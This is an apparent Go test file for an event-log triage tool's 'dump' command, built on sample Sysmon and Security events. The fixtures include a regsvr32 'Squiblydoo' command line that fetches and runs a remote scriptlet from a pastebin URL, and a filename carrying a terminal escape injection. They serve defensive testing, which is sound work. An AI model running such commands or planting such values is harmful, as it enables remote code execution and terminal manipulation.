package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/parser"
)

// writeLog writes events with the project's Writer to dir/name.
func writeLog(t *testing.T, dir, name string, evs []*parser.Event) string {
	t.Helper()
	path := filepath.Join(dir, name)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := parser.NewWriter(f)
	for _, ev := range evs {
		if err := w.Write(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// sampleEvents are a Sysmon process creation (regsvr32 Squiblydoo), its
// child, a Security 4688 and an event whose values carry terminal escapes.
func sampleEvents() []*parser.Event {
	t0 := time.Date(2019, 5, 12, 18, 35, 5, 155949300, time.UTC)
	sys := func(id uint64, eid uint16, at time.Duration, fields ...parser.Field) *parser.Event {
		return &parser.Event{
			RecordID: id, Time: t0.Add(at), EventID: eid, Version: 5, Level: 4, Task: 1,
			Provider: "Microsoft-Windows-Sysmon", Channel: "Microsoft-Windows-Sysmon/Operational",
			Computer: "IEWIN7", ProcessID: 1880, ThreadID: 2020, UserID: "S-1-5-18", Fields: fields,
		}
	}
	sec := &parser.Event{
		RecordID: 13678, Time: t0.Add(time.Minute), EventID: 4688, Version: 1,
		Provider: "Microsoft-Windows-Security-Auditing", Channel: "Security", Computer: "IE10Win7",
		Fields: []parser.Field{{Name: "NewProcessName", Value: `C:\Windows\System32\regsvr32.exe`}, {Name: "CommandLine", Value: "regsvr32 /s evil.dll"}},
	}
	return []*parser.Event{
		sys(16792, 1, 0, parser.Field{Name: "Image", Value: `C:\Windows\System32\regsvr32.exe`},
			parser.Field{Name: "CommandLine", Value: "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"},
			parser.Field{Name: "ParentImage", Value: `C:\Windows\System32\cmd.exe`}),
		sys(16793, 1, 625*time.Millisecond, parser.Field{Name: "Image", Value: `C:\Windows\System32\cmd.exe`},
			parser.Field{Name: "ParentImage", Value: `C:\Windows\System32\regsvr32.exe`}),
		sec,
		sys(16794, 11, time.Second, parser.Field{Name: "TargetFilename", Value: "C:\\x\x1b]0;pwned\x07.sct"}),
	}
}

// runIn runs the program in dir (relative paths keep the output stable)
// and comes back before returning, so golden files are found.
func runIn(t *testing.T, dir string, args ...string) (int, string, string) {
	t.Helper()
	orig, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chdir(dir); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := os.Chdir(orig); err != nil {
			t.Fatal(err)
		}
	}()
	return runCapture(t, args...)
}

// corrupt flips the stored header CRC of the first chunk of a file.
func corrupt(t *testing.T, path string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	off := 0x1000 + 0x7c
	binary.LittleEndian.PutUint32(data[off:], binary.LittleEndian.Uint32(data[off:])^0xffffffff)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestDump(t *testing.T) {
	dir := t.TempDir()
	writeLog(t, dir, "good.evtx", sampleEvents())
	corrupt(t, writeLog(t, dir, "bad.evtx", sampleEvents()[:1]))
	if err := os.WriteFile(filepath.Join(dir, "text.evtx"), []byte("not a log"), 0o644); err != nil {
		t.Fatal(err)
	}
	good := "good.evtx"
	tests := []struct {
		name   string
		args   []string
		code   int
		golden string   // stdout golden file
		stderr []string // substrings of stderr
	}{
		{name: "file", args: []string{"dump", good}, code: exitOK, golden: "dump_good.jsonl"},
		{name: "folder", args: []string{"dump", "--workers", "2", "bad.evtx", good}, code: exitPartial, golden: "dump_folder.jsonl",
			stderr: []string{"bad.evtx: offset 0x107c: chunk header CRC mismatch"}},
		{name: "missing", args: []string{"dump", "nope.evtx"}, code: exitPartial, stderr: []string{"no such file"}},
		{name: "not evtx", args: []string{"dump", "text.evtx"}, code: exitPartial, stderr: []string{"not an evtx file", "(text.evtx)"}},
		{name: "no path", args: []string{"dump"}, code: exitUsage, stderr: []string{"no PATH given"}},
		{name: "bad format", args: []string{"dump", "--format", "yaml", good}, code: exitUsage, stderr: []string{`unknown --format "yaml" (want jsonl or xml)`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, stdout, stderr := runIn(t, dir, tc.args...)
			if code != tc.code {
				t.Errorf("exit %d, want %d; stderr:\n%s", code, tc.code, stderr)
			}
			for _, s := range tc.stderr {
				if !strings.Contains(stderr, s) {
					t.Errorf("stderr lacks %q:\n%s", s, stderr)
				}
			}
			if tc.golden != "" {
				golden.Assert(t, tc.golden, []byte(stdout))
			}
			// every line is a JSON object with the documented keys
			sc := bufio.NewScanner(strings.NewReader(stdout))
			sc.Buffer(nil, 1<<20)
			for sc.Scan() {
				var obj map[string]any
				if err := json.Unmarshal(sc.Bytes(), &obj); err != nil {
					t.Fatalf("bad JSON line %q: %v", sc.Text(), err)
				}
				for _, k := range []string{"file", "record_id", "event_id", "channel", "provider", "computer", "time", "fields"} {
					if _, ok := obj[k]; !ok {
						t.Errorf("line lacks %q: %s", k, sc.Text())
					}
				}
				if strings.ContainsAny(sc.Text(), "\x1b\x07") {
					t.Errorf("control character reached the output: %q", sc.Text())
				}
			}
		})
	}
}
